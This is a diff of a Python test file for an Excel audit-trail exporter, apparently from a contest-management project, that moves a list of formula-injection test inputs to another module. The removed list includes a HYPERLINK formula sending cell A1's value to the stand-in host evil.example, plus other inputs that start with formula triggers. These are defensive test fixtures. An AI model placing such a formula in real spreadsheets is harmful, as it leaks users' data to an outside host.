@@ -27,20 +27,13 @@ from typing import Any
 from contest_desk.domain.records.audit import AuditRow
 from contest_desk.i18n import speaking
 from contest_desk.reports.audit_excel import write_audit_excel
+from tests.reports.excel_cases import FORMULAS  # text a spreadsheet would run
 
 GOLDEN = Path(__file__).parent / "golden"
 NAME = "audit_trail.xlsx"
 ROWS, SHEET_ROWS = 260, 101  # three worksheets: 100, 100 and 60 rows below the header
 AT = dt.datetime(2026, 3, 1, 0, 15, 30, 250_000)  # naive UTC, as stored
 ACTIONS = ("score.record", "judge.assign", "contest.status", "user.roles", "made.up")
-FORMULAS = (
-    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
-    "+86 138 0000",
-    "-张三",
-    "@SUM(A1)",
-    " =1+1",
-    "\t王五",
-)
 NAMES = {"entry:3": "王建国（采油工）", "user:admin": "管理员", "event:2": "采油工"}
 
 
